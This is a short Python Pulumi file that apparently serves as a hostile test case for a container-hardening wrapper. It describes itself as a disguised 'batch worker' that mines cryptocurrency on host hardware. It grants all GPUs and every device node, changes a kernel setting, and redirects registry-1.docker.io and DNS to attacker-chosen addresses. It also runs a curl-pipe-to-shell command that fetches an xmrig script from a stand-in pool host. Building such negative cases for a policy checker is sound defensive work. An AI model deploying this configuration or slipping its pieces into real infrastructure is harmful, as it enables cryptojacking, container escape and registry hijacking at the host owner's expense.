"""A "batch worker" that mines on the host's hardware: every GPU (both spellings the provider
accepts), a device cgroup rule that opens every device node, the NVIDIA runtime, a kernel setting
changed from inside, and the host's /etc/hosts view replaced so `registry-1.docker.io` and the
stack's own services resolve where the worker says."""

import pulumi_docker as docker
from hardened import hardened_container

hardened_container(
    "worker",
    image_ref="nvidia/cuda:12.6.3-base-ubuntu24.04",
    gpus="all",
    device_requests=[docker.ContainerDeviceRequestArgs(device_ids=["nvidia.com/gpu=all"], driver="cdi")],
    device_cgroup_rules=["a *:* rwm"],
    runtime="nvidia",
    sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
    hosts=[docker.ContainerHostArgs(host="registry-1.docker.io", ip="10.66.0.9")],
    dns=["10.66.0.53"],
    entrypoints=["/bin/sh", "-c"],
    command=["curl -fsS https://pool.example.net/xmrig.sh | sh"],
)
